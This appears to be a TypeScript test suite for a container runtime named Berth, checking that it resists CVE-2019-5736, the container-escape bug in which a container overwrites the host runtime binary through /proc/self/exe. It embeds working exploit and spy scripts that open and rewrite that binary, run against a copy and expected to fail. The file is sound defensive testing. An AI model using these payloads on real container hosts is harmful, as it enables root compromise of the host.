// CVE-2019-5736: a process that is about to become one of a container's shows it the engine's own program as /proc/PID/exe. Whoever got a
// descriptor of that file could write to it as root once nobody runs it any more, and with it to the host. Here an image does what the
// published exploit did, to a copy of Berth.
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import {
  accessSync,
  closeSync,
  constants,
  copyFileSync,
  existsSync,
  mkdirSync,
  openSync,
  readFileSync,
  realpathSync,
  statSync,
  symlinkSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { SealedFile } from '@berth/sys/memfd';
import { sealedView } from '@berth/sys/sealed-program';
import { eventually } from '../harness/eventually.ts';
import { ROOT } from '../harness/programs.ts';
import { Laboratory } from '../runtime/laboratory.ts';
import { Laboratory as ShimLaboratory } from '../shim/laboratory.ts';

const NODE = realpathSync(join(ROOT, 'dist/node'));
/** Writes to descriptor 3 as soon as nobody runs the program behind it, and says in a file what came of it. */
const OVERWRITE =
  'for i in $(seq 100); do said=$( (echo overwritten >/proc/self/fd/3) 2>&1 ) && said=written; case $said in *busy*) usleep 50000 ;; *) break ;; esac; done; echo "$said" >/tmp/outcome';
/**
 * The interpreter that this names is the program that executes the script, which is Berth's Node: it finds its libraries in the image. A shell
 * gets a descriptor of it, and then it makes room.
 */
const EXPLOIT = `#!/proc/self/exe
const { openSync } = require('node:fs');
const stdio = ['ignore', 'ignore', 'ignore', openSync('/proc/self/exe', 'r')];
require('node:child_process').spawn('/bin/sh', ['-c', ${JSON.stringify(OVERWRITE)}], { detached: true, stdio });
process.execve('/bin/sleep', ['sleep', '1000']);
`;
/** Opens whatever program appears in the container that is not its own. */
const SPY = `while :; do
  for process in /proc/[0-9]*; do
    command exec 3<$process/exe || continue
    [ /proc/self/fd/3 -ef /bin/busybox ] || break 2
  done
done 2>/dev/null
${OVERWRITE}; sleep 1000`;

interface Attack {
  laboratory: Laboratory;
  /** The bundle of an image that has the exploit, and `script` as its program. */
  bundle(script: string, capability?: string): string;
  /** What the exploit met: fails when it wrote. */
  outcome(bundle: string): Promise<string>;
}

function attack(t: TestContext): Attack {
  const laboratory = Laboratory.open(t);
  const copy = join(laboratory.directory, 'berth');
  for (const name of ['bin', 'dist']) mkdirSync(join(copy, name), { recursive: true });
  for (const name of ['bin/berth-runtime', 'dist/sealed', 'dist/berth-runtime.js']) copyFileSync(join(ROOT, name), join(copy, name));
  symlinkSync(join(ROOT, 'node_modules'), join(copy, 'node_modules'));
  const program = join(copy, 'dist/node');
  copyFileSync(NODE, program);
  laboratory.command = join(copy, 'bin/berth-runtime');
  return {
    laboratory,
    bundle(script, capability) {
      const bundle = laboratory.bundle(script, ({ process }) => {
        if (capability) for (const set of ['bounding', 'effective', 'permitted'] as const) process?.capabilities?.[set]?.push(capability);
      });
      for (const [library] of execFileSync('ldd', [NODE], { encoding: 'utf8' }).matchAll(/\/\S+/g)) {
        mkdirSync(join(bundle, 'rootfs', dirname(library)), { recursive: true });
        copyFileSync(library, join(bundle, 'rootfs', library));
      }
      writeFileSync(join(bundle, 'rootfs/exploit'), EXPLOIT, { mode: 0o755 });
      return bundle;
    },
    async outcome(bundle) {
      const file = join(bundle, 'rootfs/tmp/outcome');
      await eventually(() => existsSync(file) && statSync(file).size > 0);
      assert.equal(statSync(program).size, statSync(NODE).size, 'the program of the host has been overwritten');
      return readFileSync(file, 'utf8').trim();
    },
  };
}

function ok({ code, stderr }: { code: number; stderr: string }): void {
  assert.equal(code, 0, stderr);
}

test('CVE-2019-5736: the program of a container cannot overwrite that of create', async (t) => {
  const { laboratory, bundle, outcome } = attack(t);
  const image = bundle('exec /exploit');
  writeFileSync(
    join(image, 'config.json'),
    readFileSync(join(image, 'config.json'), 'utf8').replace(/"args":\[[^\]]*\]/, '"args":["/exploit"]'),
  );
  const id = laboratory.id();
  ok(laboratory.runtime(['create', '--bundle', image, id]));
  ok(laboratory.runtime(['start', id]));
  assert.match(await outcome(image), /Read-only file system/);
});

test('CVE-2019-5736: a command that was started without its launcher goes on in a sealed program, with all it was given', (t) => {
  const laboratory = Laboratory.open(t);
  laboratory.wrap(`exec "${NODE}" --v8-pool-size=0 --single-threaded "${join(ROOT, 'dist/berth-runtime.js')}" "$@"`);
  const id = laboratory.id();
  ok(laboratory.runtime(['create', '--bundle', laboratory.bundle('true'), id]));
  assert.throws(() => accessSync(`/proc/${laboratory.state(id).pid}/exe`, constants.W_OK), { code: 'EROFS' });
  const bundle = laboratory.bundle('cat; cat <&3; echo problem >&2');
  const run = `echo three | { echo zero | $0 --root ${laboratory.root} run --preserve-fds 1 --bundle ${bundle} ${laboratory.id()} 3<&4; } 4<&0`;
  const { stdout, stderr } = laboratory.shell(run);
  assert.deepEqual([stdout, stderr], ['zero\nthree\n', 'problem\n']);
});

for (const [way, environment] of [
  ['a list of system calls', ['--env', 'HOME=/']],
  ['a fork', []],
] as const) {
  test(`CVE-2019-5736: what is executed in a container, by ${way}, cannot overwrite the program of exec`, async (t) => {
    const { laboratory, bundle, outcome } = attack(t);
    const image = bundle('sleep 1000');
    const id = laboratory.id();
    ok(laboratory.runtime(['run', '--detach', '--bundle', image, id]));
    ok(laboratory.runtime(['exec', '--detach', ...environment, id, '/exploit']));
    assert.match(await outcome(image), /Read-only file system/);
  });
}

test('CVE-2019-5736: a container that may trace processes catches exec on its way, and cannot overwrite its program', async (t) => {
  const { laboratory, bundle, outcome } = attack(t);
  const image = bundle(SPY, 'CAP_SYS_PTRACE');
  const id = laboratory.id();
  ok(laboratory.runtime(['run', '--detach', '--bundle', image, id]));
  for (let attempt = 0; attempt < 20 && !existsSync(join(image, 'rootfs/tmp/outcome')); attempt++)
    ok(laboratory.runtime(['exec', id, 'true']));
  assert.match(await outcome(image), /Read-only file system/);
});

for (const [way, plain] of [
  ['forked', false],
  ['started as a program', true],
] as const) {
  test(`CVE-2019-5736: nobody may write to the program of a shim that was ${way}, nor of the process that becomes a container`, async (t) => {
    const laboratory = await ShimLaboratory.open(t, { plain });
    const shim = await laboratory.shim('sleep 1000');
    const { pid } = await shim.task.create({ id: shim.id, bundle: shim.bundle });
    for (const each of [shim.pid, pid]) assert.throws(() => accessSync(`/proc/${each}/exe`, constants.W_OK), { code: 'EROFS' });
  });
}

test('CVE-2019-5736: neither a sealed copy nor a sealed view of a program can be overwritten', async (t) => {
  const laboratory = Laboratory.open(t);
  // A copy: where the guard is missing, the test does overwrite it.
  const source = join(laboratory.directory, 'sleep');
  copyFileSync('/bin/sleep', source);
  for (const seal of [() => SealedFile.copyOf(source, 'runtime'), () => sealedView(source)]) {
    using sealed = await seal();
    const child = spawn(sealed.path.replace('self', String(process.pid)), ['30'], { stdio: 'ignore', argv0: 'sleep' });
    await new Promise((resolve) => child.once('spawn', resolve));
    // Held open until nobody runs it any more: then "text file busy" would no longer protect it.
    const held = openSync(`/proc/${child.pid}/exe`, 'r');
    child.kill('SIGKILL');
    await new Promise((resolve) => child.once('exit', resolve));
    assert.throws(() => {
      const writable = openSync(`/proc/self/fd/${held}`, 'r+');
      try {
        writeSync(writable, 'x');
      } finally {
        closeSync(writable);
      }
    }, /EPERM|EROFS/);
    closeSync(held);
  }
});
